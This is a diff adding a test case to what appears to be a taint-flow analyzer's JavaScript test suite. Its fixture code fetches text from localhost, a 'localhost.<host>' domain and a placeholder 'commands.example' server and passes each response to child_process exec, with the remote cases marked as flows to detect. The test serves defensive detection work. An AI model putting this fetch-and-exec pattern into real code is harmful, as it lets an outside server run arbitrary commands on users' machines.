@@ -360,3 +360,18 @@ def read(name: str, reader: Any = None) -> str:
     return open(name).read() # flow
 `,
   }));
+
+test('what a server beside the program says comes from nobody else', () =>
+  expectFlows({
+    'run.js': `const { exec } = require('child_process');
+async function run(port, host) {
+  const own = await fetch(\`http://127.0.0.1:\${port}/commands\`);
+  exec(await own.text());
+  const near = await fetch(\`http://localhost.\${host}/commands\`);
+  exec(await near.text()); // flow
+  const far = await fetch('https://commands.example/all');
+  exec(await far.text()); // flow
+}
+run();
+`,
+  }));
